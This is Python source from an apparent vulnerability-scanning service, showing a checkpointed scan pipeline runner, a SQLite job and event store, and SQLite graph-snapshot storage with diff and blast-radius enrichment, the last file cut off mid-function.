    slice_stats: dict[str, Any] = {
        "slices_reused": 0, "slices_rescanned": 0, "estate_reused": False,
    }
    ctx: dict[str, Any] = {
        "job_id": job_id,
        "request": request,
        "tenant_id": job["tenant_id"],
        "jobs": jobs,
        "store": store,
        # The claim queue (None in executor mode) — the scan stage fans
        # dirty slices out to the fleet through it when enabled.
        "queue": queue,
        # Differential scans ride the checkpoint store: both need it
        # durable, and a store without slice tables has neither.
        "differential": use_checkpoints and config.DIFFERENTIAL_SCANS,
        # Advisory identity is part of the cache key: a local-DB sync or
        # package release rotates the slice namespace so warm scans
        # re-match instead of replaying findings from the old dataset.
        "params_fp": checkpoints.scan_params_fingerprint(
            request,
            advisory_fp=checkpoints.advisory_fingerprint(
                offline=bool(request.get("offline"))
            ),
        ),
        "slice_stats": slice_stats,
    }
    jobs.set_status(job_id, "running")
    stage = STAGES[0]
    job_t0 = time.perf_counter()
    with propagation.activate(trace_ctx), obs_trace.span(
        "pipeline:job", attrs={"job_id": job_id}
    ) as job_span:
        try:
            prev_digest: str | None = None
            restored: list[str] = []
            ran_live = False
            for i, stage in enumerate(STAGES):
                _check_cancel(job_id)
                if stage_ref is not None:
                    stage_ref["stage"] = stage
                progress = (i + 1) / len(STAGES)
                fingerprint = checkpoints.stage_fingerprint(request_fp, prev_digest)
                cp = store.get_checkpoint(job_id, stage) if use_checkpoints else None
                if (
                    cp is not None
                    and cp["fingerprint"] == fingerprint
                    and checkpoints.payload_digest(cp["payload"]) == cp["output_digest"]
                ):
                    record_dispatch("resilience", "checkpoint_hit")
                    _restore_stage(stage, ctx, cp)
                    prev_digest = cp["output_digest"]
                    restored.append(stage)
                    jobs.add_event(
                        job_id, stage, "skipped", "restored from checkpoint",
                        progress=progress, metrics={"checkpoint": "hit"},
                    )
                    continue
                if cp is not None:
                    # Request/upstream output changed since this row was
                    # written, or the payload fails its digest — either
                    # way it no longer describes this job's inputs.
                    record_dispatch("resilience", "checkpoint_invalid")
                maybe_inject(f"pipeline:stage:{stage}")
                if restored and not ran_live:
                    record_dispatch("resilience", "resume")
                    if job_span is not None:
                        job_span.set("pipeline:resume", stage)
                    jobs.add_event(
                        job_id, stage, "resumed",
                        f"{len(restored)} stage(s) restored from checkpoints",
                        progress=i / len(STAGES),
                        metrics={"checkpoint": "resume", "restored": len(restored)},
                    )
                    logger.info(
                        "pipeline: resuming job %s at stage %s"
                        " (%d stage(s) restored from checkpoints)",
                        job_id, stage, len(restored),
                    )
                ran_live = True
                # Span + memory window per live stage: stage_mem feeds
                # resource_summary()'s per-stage RSS deltas (and, gated,
                # the tracemalloc top-N) for /v1/profile consumers.
                stage_t0 = time.perf_counter()
                stage_rss0 = obs_mem.current_rss_mb()
                with obs_trace.span(f"pipeline:{stage}"), obs_mem.stage_mem(
                    f"pipeline:{stage}"
                ):
                    payload, encoding = _STAGE_FNS[stage](ctx)
                digest = checkpoints.payload_digest(payload)
                # Estate-hit scan/enrichment rows would persist the SAME
                # multi-hundred-KB document three times per job (scan,
                # enrichment, report all return the estate payload).
                # Resume without the row is equivalent and cheap — the
                # re-run stage just re-hits the estate artifact — so only
                # the report row (the digest chain anchor the webhook's
                # byte-identity proof compares against) is persisted.
                skip_row = bool(ctx.get("estate_hit")) and stage in (
                    "scan", "enrichment"
                )
                if use_checkpoints and not skip_row:
                    store.save_checkpoint(
                        job_id, stage, fingerprint, digest, payload, encoding
                    )
                    record_dispatch("resilience", "checkpoint_write")
                # Stage-transition event for SSE followers: the stage
                # fns journal their own domain events (start/complete
                # with counts); this one carries the observability
                # payload — progress fraction, wall duration, RSS delta,
                # checkpoint outcome.
                jobs.add_event(
                    job_id, stage, "transition", None, progress=progress,
                    metrics={
                        "duration_s": round(time.perf_counter() - stage_t0, 6),
                        "rss_delta_mb": round(
                            obs_mem.current_rss_mb() - stage_rss0, 3
                        ),
                        "checkpoint": "write" if use_checkpoints else "off",
                    },
                )
                prev_digest = digest
            if restored and not ran_live:
                # Every stage was already checkpointed (the predecessor
                # died between the last checkpoint and the queue ack).
                record_dispatch("resilience", "resume")
                if job_span is not None:
                    job_span.set("pipeline:resume", "complete")
                logger.info(
                    "pipeline: resuming job %s: all %d stages already checkpointed",
                    job_id, len(restored),
                )
            # Warm-scan SLO: end-to-end latency of scans that actually
            # reused slice work — the differential win the objective's
            # burn rate watches.
            if slice_stats["slices_reused"] or slice_stats["estate_reused"]:
                warm_s = time.perf_counter() - job_t0
                obs_hist.observe("scan:warm", warm_s)
                obs_slo.note_request(
                    "scan:warm", warm_s, getattr(job_span, "trace_id", None)
                )
            # Retention GC on successful commit — executor mode only,
            # where the job store has no sweeper. In queue mode the
            # low-cadence side-connection sweeper owns GC entirely: the
            # r04 observatory blamed this inline delete (25 ms mean
            # while holding the queue file's write lock) as the #1
            # claim-convoy family, so it must never run on the claim-
            # visible connection again.
            if use_checkpoints and queue is None and (
                config.CHECKPOINT_RETENTION > 0 or config.CHECKPOINT_MAX_AGE_S > 0
            ):
                try:
                    store.gc_checkpoints(
                        config.CHECKPOINT_RETENTION,
                        max_age_s=config.CHECKPOINT_MAX_AGE_S,
                    )
                except Exception:  # noqa: BLE001
                    logger.debug("checkpoint GC failed for %s", job_id, exc_info=True)
        except JobCancelled:
            jobs.set_status(job_id, "cancelled")
            jobs.add_event(job_id, stage, "cancelled")
        except Exception as exc:  # noqa: BLE001 — job errors are reported, not raised
            logger.exception("scan job %s failed at stage %s", job_id, stage)
            jobs.set_status(job_id, "failed", error=f"{stage}: {exc}")
            jobs.add_event(job_id, stage, "failed", traceback.format_exc(limit=3))
    return slice_stats
