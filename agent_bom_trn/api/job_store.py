"""SQLite scan-job store with report payloads + step events.

Reference parity: src/agent_bom/api/ job stores + ScanJob lifecycle
(JobStatus, cooperative cancellation at phase boundaries —
docs/CONCURRENCY_AND_FAILURE_MODEL.md:9-18).
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
import uuid
from pathlib import Path
from typing import Any

from agent_bom_trn.api.checkpoints import SQLITE_CHECKPOINT_DDL, SQLiteCheckpointMixin
from agent_bom_trn.db import instrument
from agent_bom_trn.db.connect import connect_sqlite
from agent_bom_trn.obs import event_bus

_DDL = """
CREATE TABLE IF NOT EXISTS scan_jobs (
    id TEXT PRIMARY KEY,
    tenant_id TEXT NOT NULL DEFAULT 'default',
    status TEXT NOT NULL,
    created_at REAL NOT NULL,
    started_at REAL,
    finished_at REAL,
    request TEXT NOT NULL,
    error TEXT,
    report TEXT,
    cancel_requested INTEGER NOT NULL DEFAULT 0
);
CREATE TABLE IF NOT EXISTS scan_job_events (
    job_id TEXT NOT NULL,
    seq INTEGER NOT NULL,
    ts REAL NOT NULL,
    step TEXT NOT NULL,
    state TEXT NOT NULL,
    detail TEXT,
    progress REAL,
    metrics TEXT,
    PRIMARY KEY (job_id, seq)
);
"""

# Additive migration for journals created before the observatory PR
# (same try/except-ALTER pattern as scan_queue._MIGRATE_COLUMNS).
_MIGRATE_EVENT_COLUMNS = (
    ("progress", "REAL"),
    ("metrics", "TEXT"),
)

JOB_STATUSES = ("queued", "running", "complete", "partial", "failed", "cancelled")


class SQLiteJobStore(SQLiteCheckpointMixin):
    """Job rows + step events, plus the stage-checkpoint/notify-ledger
    mixin so executor mode (no durable queue) runs the same resumable
    pipeline code path against the job store."""

    def __init__(self, path: str | Path = ":memory:") -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = connect_sqlite(self.path, store="job_store")
        self._conn.executescript(_DDL)
        self._conn.executescript(SQLITE_CHECKPOINT_DDL)
        for column, col_type in _MIGRATE_EVENT_COLUMNS:
            try:
                self._conn.execute(
                    f"ALTER TABLE scan_job_events ADD COLUMN {column} {col_type}"
                )
            except sqlite3.OperationalError:
                pass  # column already present (fresh DDL or prior migration)
        self._conn.commit()

    def create_job(
        self, request: dict[str, Any], tenant_id: str = "default", job_id: str | None = None
    ) -> str:
        """``job_id`` lets a queue worker recreate a claimed job locally
        under its original id (cross-replica / post-restart claims)."""
        job_id = job_id or str(uuid.uuid4())
        with self._lock:
            self._conn.execute(
                "INSERT INTO scan_jobs (id, tenant_id, status, created_at, request)"
                " VALUES (?, ?, 'queued', ?, ?)",
                (job_id, tenant_id, time.time(), json.dumps(request, default=str)),
            )
            self._conn.commit()
        return job_id

    def set_status(
        self,
        job_id: str,
        status: str,
        error: str | None = None,
        report: dict[str, Any] | None = None,
    ) -> None:
        assert status in JOB_STATUSES, status
        with self._lock:
            sets = ["status = ?"]
            args: list[Any] = [status]
            if status == "running":
                sets.append("started_at = ?")
                args.append(time.time())
            if status in ("complete", "partial", "failed", "cancelled"):
                sets.append("finished_at = ?")
                args.append(time.time())
            if error is not None:
                sets.append("error = ?")
                args.append(error)
            if report is not None:
                sets.append("report = ?")
                args.append(json.dumps(report, default=str))
            args.append(job_id)
            self._conn.execute(f"UPDATE scan_jobs SET {', '.join(sets)} WHERE id = ?", args)
            self._conn.commit()

    def get_job(self, job_id: str, include_report: bool = False) -> dict[str, Any] | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT id, tenant_id, status, created_at, started_at, finished_at, request,"
                " error, cancel_requested" + (", report" if include_report else "")
                + " FROM scan_jobs WHERE id = ?",
                (job_id,),
            ).fetchone()
        if not row:
            return None
        job = {
            "id": row[0],
            "tenant_id": row[1],
            "status": row[2],
            "created_at": row[3],
            "started_at": row[4],
            "finished_at": row[5],
            "request": json.loads(row[6]),
            "error": row[7],
            "cancel_requested": bool(row[8]),
        }
        if include_report and row[9]:
            job["report"] = json.loads(row[9])
        return job

    def list_jobs(self, tenant_id: str = "default", limit: int = 50) -> list[dict[str, Any]]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT id, status, created_at, started_at, finished_at FROM scan_jobs"
                " WHERE tenant_id = ? ORDER BY created_at DESC LIMIT ?",
                (tenant_id, limit),
            ).fetchall()
        return [
            {"id": r[0], "status": r[1], "created_at": r[2], "started_at": r[3], "finished_at": r[4]}
            for r in rows
        ]

    def request_cancel(self, job_id: str) -> bool:
        with self._lock:
            cur = self._conn.execute(
                "UPDATE scan_jobs SET cancel_requested = 1 WHERE id = ? AND status IN ('queued','running')",
                (job_id,),
            )
            self._conn.commit()
            return cur.rowcount > 0

    def cancel_requested(self, job_id: str) -> bool:
        with self._lock:
            row = self._conn.execute(
                "SELECT cancel_requested FROM scan_jobs WHERE id = ?", (job_id,)
            ).fetchone()
        return bool(row and row[0])

    # ── step events (SSE feed) ──────────────────────────────────────────

    def add_event(
        self,
        job_id: str,
        step: str,
        state: str,
        detail: str | None = None,
        progress: float | None = None,
        metrics: dict[str, Any] | None = None,
    ) -> dict[str, Any]:
        """Append one journal event and fan it out on the event bus.

        The journal write is the single seam every stage transition flows
        through, so the bus event is published AFTER the durable insert
        with the assigned seq — live SSE tails and Last-Event-ID replay
        serialize the identical row.
        """
        with instrument.track("db:job_event", job_id=job_id, step=step), self._lock:
            row = self._conn.execute(
                "SELECT COALESCE(MAX(seq), 0) + 1 FROM scan_job_events WHERE job_id = ?",
                (job_id,),
            ).fetchone()
            seq, ts = int(row[0]), time.time()
            self._conn.execute(
                "INSERT INTO scan_job_events (job_id, seq, ts, step, state, detail,"
                " progress, metrics) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                (
                    job_id,
                    seq,
                    ts,
                    step,
                    state,
                    detail,
                    progress,
                    json.dumps(metrics, default=str) if metrics is not None else None,
                ),
            )
            tenant_row = self._conn.execute(
                "SELECT tenant_id FROM scan_jobs WHERE id = ?", (job_id,)
            ).fetchone()
            self._conn.commit()
        event = {
            "seq": seq,
            "ts": ts,
            "step": step,
            "state": state,
            "detail": detail,
            "progress": progress,
            "metrics": metrics,
        }
        bus_event = dict(event)
        bus_event["job_id"] = job_id
        bus_event["tenant_id"] = tenant_row[0] if tenant_row else "default"
        event_bus.publish(bus_event)
        return event

    def events_since(self, job_id: str, after_seq: int = 0) -> list[dict[str, Any]]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT seq, ts, step, state, detail, progress, metrics FROM scan_job_events"
                " WHERE job_id = ? AND seq > ? ORDER BY seq",
                (job_id, after_seq),
            ).fetchall()
        return [
            {
                "seq": r[0],
                "ts": r[1],
                "step": r[2],
                "state": r[3],
                "detail": r[4],
                "progress": r[5],
                "metrics": json.loads(r[6]) if r[6] else None,
            }
            for r in rows
        ]
