"""SQLite graph store: persisted snapshots + node/edge queries.

Reference parity: src/agent_bom/api/graph_store.py (1,846 LoC) +
db/graph_store.py DDL (:85-201) — versioned old/current snapshot rows,
node search, bounded neighborhood queries, snapshot diff.
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
from pathlib import Path
from typing import Any

from agent_bom_trn.graph.container import UnifiedGraph

_DDL = """
CREATE TABLE IF NOT EXISTS graph_snapshots (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    scan_id TEXT NOT NULL,
    tenant_id TEXT NOT NULL DEFAULT 'default',
    created_at REAL NOT NULL,
    is_current INTEGER NOT NULL DEFAULT 1,
    node_count INTEGER NOT NULL,
    edge_count INTEGER NOT NULL,
    document TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_snapshots_current ON graph_snapshots (tenant_id, is_current);
CREATE TABLE IF NOT EXISTS graph_nodes (
    snapshot_id INTEGER NOT NULL,
    node_id TEXT NOT NULL,
    entity_type TEXT NOT NULL,
    label TEXT NOT NULL,
    severity TEXT,
    risk_score REAL,
    document TEXT NOT NULL,
    PRIMARY KEY (snapshot_id, node_id)
);
CREATE INDEX IF NOT EXISTS idx_nodes_label ON graph_nodes (snapshot_id, label);
CREATE TABLE IF NOT EXISTS graph_edges (
    snapshot_id INTEGER NOT NULL,
    edge_id TEXT NOT NULL,
    source TEXT NOT NULL,
    target TEXT NOT NULL,
    relationship TEXT NOT NULL,
    document TEXT NOT NULL,
    PRIMARY KEY (snapshot_id, edge_id)
);
CREATE INDEX IF NOT EXISTS idx_edges_source ON graph_edges (snapshot_id, source);
CREATE INDEX IF NOT EXISTS idx_edges_target ON graph_edges (snapshot_id, target);
"""

# Crash-safe publish (PR 9): snapshots are built under is_current = -1
# (staged — invisible to every read path) and swapped to current in one
# transaction on commit. job_id keys the per-job publish dedupe; the
# column is migrated additively so pre-existing files converge.
_MIGRATE_COLUMNS = (("job_id", "TEXT"),)


def enrich_diff(
    delta: dict[str, Any],
    old_node_meta: dict[str, tuple],
    new_node_meta: dict[str, tuple],
    old_edge_rel: dict[str, str],
    new_edge_rel: dict[str, str],
) -> dict[str, Any]:
    """Additive per-type / blast-radius enrichment of a snapshot diff.

    Shared by the SQLite and Postgres stores so both backends return the
    identical ``/v1/graph/diff`` contract. Node metadata maps node_id →
    ``(entity_type, severity, risk_score)``; edge metadata maps edge_id →
    relationship. Keys already in ``delta`` (the PR-6 id-list contract)
    are never touched — everything here is additive.
    """

    def type_counts(ids: list[str], meta: dict[str, tuple]) -> dict[str, int]:
        counts: dict[str, int] = {}
        for node_id in ids:
            entity = (meta.get(node_id) or (None,))[0] or "unknown"
            counts[entity] = counts.get(entity, 0) + 1
        return dict(sorted(counts.items()))

    def rel_counts(ids: list[str], rels: dict[str, str]) -> dict[str, int]:
        counts: dict[str, int] = {}
        for edge_id in ids:
            rel = rels.get(edge_id) or "unknown"
            counts[rel] = counts.get(rel, 0) + 1
        return dict(sorted(counts.items()))

    def blast(ids: list[str], meta: dict[str, tuple]) -> tuple[dict[str, int], float]:
        severities: dict[str, int] = {}
        risk = 0.0
        for node_id in ids:
            row = meta.get(node_id)
            if not row:
                continue
            if len(row) > 1 and row[1]:
                severities[row[1]] = severities.get(row[1], 0) + 1
            if len(row) > 2 and row[2] is not None:
                risk += float(row[2])
        return dict(sorted(severities.items())), round(risk, 4)

    sev_added, risk_added = blast(delta["nodes_added"], new_node_meta)
    sev_removed, risk_removed = blast(delta["nodes_removed"], old_node_meta)
    delta["nodes_added_by_type"] = type_counts(delta["nodes_added"], new_node_meta)
    delta["nodes_removed_by_type"] = type_counts(delta["nodes_removed"], old_node_meta)
    delta["edges_added_by_type"] = rel_counts(delta["edges_added"], new_edge_rel)
    delta["edges_removed_by_type"] = rel_counts(delta["edges_removed"], old_edge_rel)
    delta["blast_radius_delta"] = {
        "severity_added": sev_added,
        "severity_removed": sev_removed,
        "risk_score_added": risk_added,
        "risk_score_removed": risk_removed,
        "net_risk_score": round(risk_added - risk_removed, 4),
        "net_nodes": len(delta["nodes_added"]) - len(delta["nodes_removed"]),
        "net_edges": len(delta["edges_added"]) - len(delta["edges_removed"]),
    }
    return delta


class SQLiteGraphStore:
    """Thread-safe SQLite graph persistence."""

    def __init__(self, path: str | Path = ":memory:") -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = sqlite3.connect(self.path, check_same_thread=False, timeout=10.0)
        self._conn.executescript(_DDL)
        for column, decl in _MIGRATE_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE graph_snapshots ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass  # column exists (fresh DDL or already migrated)
        self._conn.commit()
        # In-memory cache of the deserialized current graph per tenant,
        # keyed by snapshot id — graph reads (/v1/graph, /paths, /query)
        # would otherwise re-parse the full document per request.
        self._graph_cache: dict[str, tuple[int, UnifiedGraph]] = {}

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    # ── snapshots ───────────────────────────────────────────────────────

    def persist_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Persist as the new current snapshot; previous stays as history."""
        with self._lock:
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = ? AND is_current = 1",
                (tenant_id,),
            )
            return self._insert_snapshot(cur, graph, scan_id, tenant_id, 1, job_id)

    def stage_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Build a snapshot in the staging namespace (is_current = -1):
        invisible to every read path until :meth:`commit_staged` swaps it
        in — a crash mid-build leaves the previous estate graph intact
        and readable. Prior uncommitted stagings for the same job are
        garbage from a dead worker; they are dropped first."""
        with self._lock:
            cur = self._conn.cursor()
            if job_id is not None:
                for (orphan,) in cur.execute(
                    "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND job_id = ?"
                    " AND is_current = -1",
                    (tenant_id, job_id),
                ).fetchall():
                    cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = ?", (orphan,))
                    cur.execute("DELETE FROM graph_edges WHERE snapshot_id = ?", (orphan,))
                    cur.execute("DELETE FROM graph_snapshots WHERE id = ?", (orphan,))
            return self._insert_snapshot(cur, graph, scan_id, tenant_id, -1, job_id)

    def commit_staged(self, snapshot_id: int, tenant_id: str = "default") -> bool:
        """Atomically promote a staged snapshot to current (demote the
        previous current to history in the same transaction). Idempotent:
        a snapshot that is already current or historical returns True
        without writing — re-commit after a crash-redelivery is a no-op."""
        with self._lock:
            row = self._conn.execute(
                "SELECT is_current FROM graph_snapshots WHERE id = ? AND tenant_id = ?",
                (snapshot_id, tenant_id),
            ).fetchone()
            if row is None:
                return False
            if int(row[0]) >= 0:
                return True  # already committed (current or superseded)
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = ? AND is_current = 1",
                (tenant_id,),
            )
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 1 WHERE id = ?", (snapshot_id,)
            )
            self._conn.commit()
            return True

    def job_snapshot_id(self, tenant_id: str, job_id: str) -> int | None:
        """Committed (current or historical, never staged) snapshot for a
        job — the cross-process publish dedupe for redelivered jobs."""
        with self._lock:
            row = self._conn.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND job_id = ?"
                " AND is_current >= 0 ORDER BY id DESC LIMIT 1",
                (tenant_id, job_id),
            ).fetchone()
        return int(row[0]) if row else None

    def _insert_snapshot(
        self, cur, graph: UnifiedGraph, scan_id: str, tenant_id: str,
        is_current: int, job_id: str | None
    ) -> int:
        """Snapshot + node/edge rows in the caller's transaction (caller
        holds the lock); commits before returning."""
        doc = graph.to_dict()
        cur.execute(
            "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
            " node_count, edge_count, document, job_id) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
            (
                scan_id,
                tenant_id,
                time.time(),
                is_current,
                graph.node_count,
                graph.edge_count,
                json.dumps(doc, default=str),
                job_id,
            ),
        )
        snapshot_id = int(cur.lastrowid)
        cur.executemany(
            "INSERT OR REPLACE INTO graph_nodes VALUES (?, ?, ?, ?, ?, ?, ?)",
            [
                (
                    snapshot_id,
                    n["id"],
                    n["entity_type"],
                    n["label"],
                    n.get("severity"),
                    n.get("risk_score"),
                    json.dumps(n, default=str),
                )
                for n in doc["nodes"]
            ],
        )
        cur.executemany(
            "INSERT OR REPLACE INTO graph_edges VALUES (?, ?, ?, ?, ?, ?)",
            [
                (
                    snapshot_id,
                    e["id"],
                    e["source"],
                    e["target"],
                    e["relationship"],
                    json.dumps(e, default=str),
                )
                for e in doc["edges"]
            ],
        )
        self._conn.commit()
        return snapshot_id

    def replace_current_snapshot(
        self, graph: UnifiedGraph, tenant_id: str = "default", expected_snapshot_id: int | None = None
    ) -> bool:
        """Overwrite the CURRENT snapshot row in place (no history row).

        Used by runtime-event ingest: behavioral edges update the live
        estate view without minting a full snapshot per batch. CAS
        semantics: when ``expected_snapshot_id`` is given and no longer
        current (a scan persisted meanwhile), returns False and writes
        nothing — callers reload and re-apply.
        """
        doc = graph.to_dict()
        with self._lock:
            current = self.current_snapshot_id(tenant_id)
            if current is None:
                return False
            if expected_snapshot_id is not None and current != expected_snapshot_id:
                return False
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET node_count = ?, edge_count = ?, document = ? WHERE id = ?",
                (graph.node_count, graph.edge_count, json.dumps(doc, default=str), current),
            )
            cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = ?", (current,))
            cur.execute("DELETE FROM graph_edges WHERE snapshot_id = ?", (current,))
            cur.executemany(
                "INSERT OR REPLACE INTO graph_nodes VALUES (?, ?, ?, ?, ?, ?, ?)",
                [
                    (current, n["id"], n["entity_type"], n["label"], n.get("severity"),
                     n.get("risk_score"), json.dumps(n, default=str))
                    for n in doc["nodes"]
                ],
            )
            cur.executemany(
                "INSERT OR REPLACE INTO graph_edges VALUES (?, ?, ?, ?, ?, ?)",
                [
                    (current, e["id"], e["source"], e["target"], e["relationship"],
                     json.dumps(e, default=str))
                    for e in doc["edges"]
                ],
            )
            self._conn.commit()
            self._graph_cache[tenant_id] = (current, graph)
            return True

    def current_snapshot_id(self, tenant_id: str = "default") -> int | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND is_current = 1"
                " ORDER BY id DESC LIMIT 1",
                (tenant_id,),
            ).fetchone()
        return int(row[0]) if row else None

    def load_graph(self, tenant_id: str = "default", snapshot_id: int | None = None) -> UnifiedGraph | None:
        with self._lock:
            if snapshot_id is None:
                snapshot_id = self.current_snapshot_id(tenant_id)
            if snapshot_id is None:
                return None
            cached = self._graph_cache.get(tenant_id)
            if cached is not None and cached[0] == snapshot_id:
                return cached[1]
            row = self._conn.execute(
                "SELECT document FROM graph_snapshots WHERE id = ?", (snapshot_id,)
            ).fetchone()
            if not row:
                return None
            graph = UnifiedGraph.from_dict(json.loads(row[0]))
            self._graph_cache[tenant_id] = (snapshot_id, graph)
            return graph

    def snapshots(self, tenant_id: str = "default", limit: int = 20) -> list[dict[str, Any]]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT id, scan_id, created_at, is_current, node_count, edge_count"
                " FROM graph_snapshots WHERE tenant_id = ? AND is_current >= 0"
                " ORDER BY id DESC LIMIT ?",
                (tenant_id, limit),
            ).fetchall()
        return [
            {
                "id": r[0],
                "scan_id": r[1],
                "created_at": r[2],
                "is_current": bool(r[3]),
                "node_count": r[4],
                "edge_count": r[5],
            }
            for r in rows
        ]

    # ── queries ─────────────────────────────────────────────────────────

    def search_nodes(
        self, query: str, tenant_id: str = "default", limit: int = 50
    ) -> list[dict[str, Any]]:
        snapshot_id = self.current_snapshot_id(tenant_id)
        if snapshot_id is None:
            return []
        like = f"%{query}%"
        with self._lock:
            rows = self._conn.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = ?"
                " AND (label LIKE ? OR node_id LIKE ?) LIMIT ?",
                (snapshot_id, like, like, limit),
            ).fetchall()
        return [json.loads(r[0]) for r in rows]

    def get_node(self, node_id: str, tenant_id: str = "default") -> dict[str, Any] | None:
        snapshot_id = self.current_snapshot_id(tenant_id)
        if snapshot_id is None:
            return None
        with self._lock:
            row = self._conn.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = ? AND node_id = ?",
                (snapshot_id, node_id),
            ).fetchone()
            if not row:
                return None
            node = json.loads(row[0])
            out_edges = self._conn.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = ? AND source = ? LIMIT 100",
                (snapshot_id, node_id),
            ).fetchall()
            in_edges = self._conn.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = ? AND target = ? LIMIT 100",
                (snapshot_id, node_id),
            ).fetchall()
        node["out_edges"] = [json.loads(r[0]) for r in out_edges]
        node["in_edges"] = [json.loads(r[0]) for r in in_edges]
        return node

    def diff_snapshots(
        self, old_id: int, new_id: int
    ) -> dict[str, Any]:
        """Node/edge additions + removals between two snapshots, plus
        per-type breakdowns and a blast-radius delta (additive keys)."""
        with self._lock:
            old_nodes = {
                r[0]: (r[1], r[2], r[3])
                for r in self._conn.execute(
                    "SELECT node_id, entity_type, severity, risk_score"
                    " FROM graph_nodes WHERE snapshot_id = ?",
                    (old_id,),
                )
            }
            new_nodes = {
                r[0]: (r[1], r[2], r[3])
                for r in self._conn.execute(
                    "SELECT node_id, entity_type, severity, risk_score"
                    " FROM graph_nodes WHERE snapshot_id = ?",
                    (new_id,),
                )
            }
            old_edges = {
                r[0]: r[1]
                for r in self._conn.execute(
                    "SELECT edge_id, relationship FROM graph_edges WHERE snapshot_id = ?",
                    (old_id,),
                )
            }
            new_edges = {
                r[0]: r[1]
                for r in self._conn.execute(
                    "SELECT edge_id, relationship FROM graph_edges WHERE snapshot_id = ?",
                    (new_id,),
                )
            }
        delta = {
            "nodes_added": sorted(new_nodes.keys() - old_nodes.keys()),
            "nodes_removed": sorted(old_nodes.keys() - new_nodes.keys()),
            "edges_added": sorted(new_edges.keys() - old_edges.keys()),
            "edges_removed": sorted(old_edges.keys() - new_edges.keys()),
            "old_snapshot_id": old_id,
            "new_snapshot_id": new_id,
        }
        return enrich_diff(delta, old_nodes, new_nodes, old_edges, new_edges)
