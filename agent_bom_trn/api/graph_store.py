"""SQLite graph store: persisted snapshots + node/edge queries.

Reference parity: src/agent_bom/api/graph_store.py (1,846 LoC) +
db/graph_store.py DDL (:85-201) — versioned old/current snapshot rows,
node search, bounded neighborhood queries, snapshot diff.
"""

from __future__ import annotations

import json
import sqlite3
import threading
import time
from pathlib import Path
from typing import Any

from agent_bom_trn.db import instrument
from agent_bom_trn.db.connect import connect_sqlite
from agent_bom_trn.graph.container import UnifiedGraph

_DDL = """
CREATE TABLE IF NOT EXISTS graph_snapshots (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    scan_id TEXT NOT NULL,
    tenant_id TEXT NOT NULL DEFAULT 'default',
    created_at REAL NOT NULL,
    is_current INTEGER NOT NULL DEFAULT 1,
    node_count INTEGER NOT NULL,
    edge_count INTEGER NOT NULL,
    document TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_snapshots_current ON graph_snapshots (tenant_id, is_current);
CREATE TABLE IF NOT EXISTS graph_nodes (
    snapshot_id INTEGER NOT NULL,
    node_id TEXT NOT NULL,
    entity_type TEXT NOT NULL,
    label TEXT NOT NULL,
    severity TEXT,
    risk_score REAL,
    document TEXT NOT NULL,
    PRIMARY KEY (snapshot_id, node_id)
);
CREATE INDEX IF NOT EXISTS idx_nodes_label ON graph_nodes (snapshot_id, label);
CREATE TABLE IF NOT EXISTS graph_edges (
    snapshot_id INTEGER NOT NULL,
    edge_id TEXT NOT NULL,
    source TEXT NOT NULL,
    target TEXT NOT NULL,
    relationship TEXT NOT NULL,
    direction TEXT,
    traversable INTEGER,
    document TEXT NOT NULL,
    PRIMARY KEY (snapshot_id, edge_id)
);
CREATE INDEX IF NOT EXISTS idx_edges_source ON graph_edges (snapshot_id, source);
CREATE INDEX IF NOT EXISTS idx_edges_target ON graph_edges (snapshot_id, target);
"""

# Crash-safe publish (PR 9): snapshots are built under is_current = -1
# (staged — invisible to every read path) and swapped to current in one
# transaction on commit. job_id keys the per-job publish dedupe. The
# edge direction/traversable columns (PR 15) let the lazy store-backed
# view assemble its CSR from one metadata scan without parsing every
# edge document. All columns are migrated additively so pre-existing
# files converge; NULL direction marks a pre-migration row and readers
# fall back to the edge document.
_MIGRATE_COLUMNS = (
    ("graph_snapshots", "job_id", "TEXT"),
    ("graph_edges", "direction", "TEXT"),
    ("graph_edges", "traversable", "INTEGER"),
)

# Explicit column lists: positional VALUES would silently shear when a
# migration appends a column to an existing file.
_NODE_INSERT = (
    "INSERT OR REPLACE INTO graph_nodes"
    " (snapshot_id, node_id, entity_type, label, severity, risk_score, document)"
    " VALUES (?, ?, ?, ?, ?, ?, ?)"
)
_EDGE_INSERT = (
    "INSERT OR REPLACE INTO graph_edges"
    " (snapshot_id, edge_id, source, target, relationship, direction, traversable, document)"
    " VALUES (?, ?, ?, ?, ?, ?, ?, ?)"
)


def _node_row(snapshot_id: int, n: dict[str, Any]) -> tuple:
    return (
        snapshot_id,
        n["id"],
        n["entity_type"],
        n["label"],
